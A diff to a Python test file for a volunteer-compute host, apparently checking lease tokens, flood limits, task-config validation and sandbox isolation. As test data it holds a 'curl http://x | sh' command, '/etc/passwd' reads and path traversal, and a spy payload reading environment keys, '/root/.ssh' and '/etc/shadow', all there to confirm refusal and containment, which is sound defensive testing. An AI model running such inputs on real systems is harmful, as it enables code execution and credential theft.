@@ -10,6 +10,7 @@ import math
 import re
 import resource
 import socket
+import time
 import tomllib
 from collections.abc import Callable, Mapping
 from concurrent.futures import ThreadPoolExecutor
@@ -34,7 +35,7 @@ from arena.home.tables import ProposalRow, RunLease, Volunteer
 from arena.home.volunteer import Limits, VolunteerSession
 from arena.serving.clock import utc_now
 from arena.serving.limits import Rate
-from programs.errors import CredentialMissing, EnvironmentProblem, MetaloopError, NotFound, UsageError
+from programs.errors import Busy, CredentialMissing, EnvironmentProblem, MetaloopError, NotFound, UsageError
 from programs.shelf import starter
 from programs.text import one_line
 from tests.arena.home.clients import RESULT, Client, better, new_project, states, work
@@ -83,10 +84,12 @@ def test_another_volunteers_lease_and_source(project: Project, host: ProjectHost
         with pytest.raises(NotFound, match="no such lease"):
             eve.result(lease, files)
         with pytest.raises(NotFound, match="no such lease"), project.database.write() as connection:
-            host.take(connection, eve.number, lease, sent, host.check(ann.number, hers, sent))
+            host.take(connection, eve.number, lease, sent, host.check(host.own_lease(ann.token, hers), sent))
     assert ann.result(hers, files).state == "waiting"
     stolen = eve.propose({"train.py": files["train.py"] + "\n\n# by Eve\n"}, 9.0, mine)
-    assert stolen.state == "refused" and "same source" in stolen.reason
+    assert stolen.state == "waiting"
+    work(project)
+    assert sorted(state for state, _ in states(project).values()) == ["merged", "refused"]
 
 
 def test_a_guessed_token_opens_nothing(project: Project, host: ProjectHost, eve: Client, tmp_path: Path) -> None:
@@ -95,11 +98,11 @@ def test_a_guessed_token_opens_nothing(project: Project, host: ProjectHost, eve:
         stored = connection.scalars(select(Volunteer.token_hash)).one()
     with serving(project) as url:
         for token in ("", "x", other.token, stored, eve.token[:-1], eve.token.lower(), "é"):
-            for path, body in (("leases", b"{}"), (f"leases/{eve.lease().lease}/result", b"{}"), ("proposals", None)):
+            for path, body in (("leases", b"{}"), (f"leases/{eve.lease().lease}/result", b"{}")):
                 status, text = get(f"{url}/api/v1/{path}", body, token=token)
                 assert status == 401 and "needs the token" in text and "\n" not in text
         assert get(f"{url}/api/v1/volunteers", b'{"name":"x","hardware":"","devices":1}', token="x")[0] == 401
-        assert get(f"{url}/api/v1/proposals", token=eve.token) == (200, '{"proposals":[],"block":0}')
+        assert get(f"{url}/api/v1/leases", b"{}", token=eve.token)[0] == 200
     for token in ("", stored):
         with pytest.raises(CredentialMissing):
             host.volunteer_of(token)
@@ -121,11 +124,11 @@ def test_a_flood_of_leases_and_volunteers_gets_one_lease_each(project: Project, 
         sybil = Client(host, "Sybil")
         lease = sybil.lease().lease
         assert sybil.lease().lease == lease  # the reply was lost
-        with pytest.raises(UsageError, match="out already"):
+        with pytest.raises(Busy, match="out already"):
             sybil.lease(lease)
     assert rows(project) == (20, 20, 0)
     with pytest.raises(UsageError, match="have"):
-        sybil.lease(*["r" + "0" * 12] * 5000)
+        sybil.lease(*["r" + "0" * 12] * 2000)
 
 
 def test_withheld_and_late_results(project: Project, host: ProjectHost, eve: Client) -> None:
@@ -194,7 +197,7 @@ def test_claims_buy_no_merge_and_cost_the_proposer_its_place(project: Project, h
 
 def test_an_event_record_cannot_be_more_than_a_report() -> None:
     for text in ('{"kind": "block", "body": {}}', '{"kind": "verification", "gain": 9}', '{"kind": "champion"}'):
-        assert checked("r1", text) == []
+        assert checked("r1", text, 9) == []
     for text in (
         '{"kind": "experiment", "x": 1' + "0" * 400 + "}",
         '{"kind": 7}',
@@ -204,7 +207,7 @@ def test_an_event_record_cannot_be_more_than_a_report() -> None:
         '"kind"',
         "null",
     ):
-        assert not checked("r1", text)
+        assert not checked("r1", text, 9)
 
 
 # A volunteer's HTTP requests.
@@ -263,12 +266,16 @@ def test_a_bundle_writes_nothing_outside(project: Project, tmp_path: Path, name:
     assert not (tmp_path / "v").exists() and not (tmp_path / "x").exists()
 
 
+PRINTED = {"kind": "printed", "pattern": "metric: (.*)"}
+
+
 @pytest.mark.parametrize(
     ("change", "why"),
     [
-        (lambda t: t.update(run={"command": "curl http://x | sh"}), "run a command"),
-        (lambda t: t.setdefault("data", {}).update(source="/etc/passwd"), "read a file"),
-        (lambda t: t["score"].update(kind="theirs"), r"\w"),
+        (lambda t: t.update(run={"command": "curl http://x | sh"}, score=PRINTED), "runs a command"),
+        (lambda t: t.setdefault("data", {}).update(source="/etc/passwd"), "data.source: unknown key"),
+        (lambda t: t["task"].update(editable=["../../../etc/passwd"]), "is outside the task folder"),
+        (lambda t: t["score"].update(kind="theirs"), "no scorer 'theirs'"),
     ],
 )
 def test_a_task_that_runs_a_command_reads_a_file_or_scores_with_its_own_code_is_refused(
@@ -301,7 +308,7 @@ def test_a_bundle_that_is_not_the_announced_one_too_large_or_with_other_files(pr
 
 SPY = """
 import os, pathlib, socket
-SEEN = []
+SEEN = [value for value in os.environ.values() if "my key" in value]
 for path in ({secret!r}, "/root/.ssh", "/etc/shadow", os.path.expanduser("~/.bashrc")):
     try:
         SEEN.append(pathlib.Path(path).read_bytes()[:20])
@@ -323,10 +330,11 @@ if SEEN:
 
 @pytest.mark.parametrize("where", ["data.py", "train.py"])
 def test_what_a_host_sends_reads_and_writes_nothing_of_the_volunteers(
-    project: Project, tmp_path: Path, where: str
+    project: Project, tmp_path: Path, where: str, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     """Its data.py and its train.py run in the volunteer's sandbox: no file, no environment, no network."""
     sandbox.require(project.task, True)
+    monkeypatch.setenv("SOME_API_KEY", "my key")
     private = tmp_path / "private"
     private.mkdir()
     (private / "secret.txt").write_text("my key")
@@ -343,7 +351,7 @@ def test_what_a_host_sends_reads_and_writes_nothing_of_the_volunteers(
         if where == "train.py":
             main = {"train.py": f"{head}\n{spy}\nimport {rest}"}
         session = session_in(tmp_path / "v")
-        session.reach = lambda path, body=None: bundle.body  # type: ignore[method-assign,assignment]
+        session.reach = lambda *_: bundle.body  # type: ignore[method-assign,assignment]
         result = session.run(parsed(RunWork, json.dumps(work_of({"task": bundle.digest, "base": base_of(main)}))))
         listening.settimeout(0.2)
         with pytest.raises(TimeoutError):
@@ -379,7 +387,7 @@ MALFORMED: list[tuple[str, object]] = [
 def test_a_lease_that_is_malformed_is_not_kept(tmp_path: Path, field: str, value: object) -> None:
     session = session_in(tmp_path / "v")
     raw = json.dumps(work_of({"leases_at_once": 9, field: value})).encode()
-    session.reach = lambda path, body=None: raw  # type: ignore[method-assign]
+    session.reach = lambda *_: raw  # type: ignore[method-assign]
     with pytest.raises(EnvironmentProblem, match=f"the host's answer is malformed: {field}"):
         session.step()
     assert session.folder.get("lease", LeaseFile) is None and session.quota == 1  # the next one may be good
@@ -407,22 +415,19 @@ def test_a_source_that_is_slow_to_parse_holds_up_nobody(project: Project, host: 
     sent = parsed(RunResult, json.dumps({**RESULT, "files": {"train.py": text}}))
     before = of_children()
     with ThreadPoolExecutor(1) as thread:
-        checking = thread.submit(host.check, eve.number, lease, sent)
+        checking = thread.submit(host.check, host.own_lease(eve.token, lease), sent)
+        time.sleep(0.05)
         ann.lease()  # in a transaction of its own
+        answered_meanwhile = not checking.done()
         checked_files = checking.result(100)
     parsing, before = of_children() - before, of_children()
+    assert answered_meanwhile or text not in SLOW[:2]
     assert (parsing > 0.1) == (text in SLOW[:2])  # the others are too large, or break the parser at once
     with project.database.write() as connection:
         answer = host.take(connection, eve.number, lease, sent, checked_files)
     assert of_children() - before < 0.1, "it was parsed within the transaction"
     assert ("larger than" in answer.reason) == (len(text) > 64 << 10)
     assert answer.state in ("waiting", "refused")  # some parse within the limit
-
-
-def test_a_proposal_that_was_not_checked_is_not_taken(project: Project, host: ProjectHost, eve: Client) -> None:
-    lease, sent = eve.lease().lease, parsed(RunResult, json.dumps({**RESULT, "files": FILES}))
-    with pytest.raises(UsageError, match="not checked"), project.database.write() as connection:
-        host.take(connection, eve.number, lease, sent, None)
 
 
 @pytest.mark.parametrize(("address", "refused"), [("2001:db8:1:1::{}", True), ("2001:db8:1:{}::1", False)])
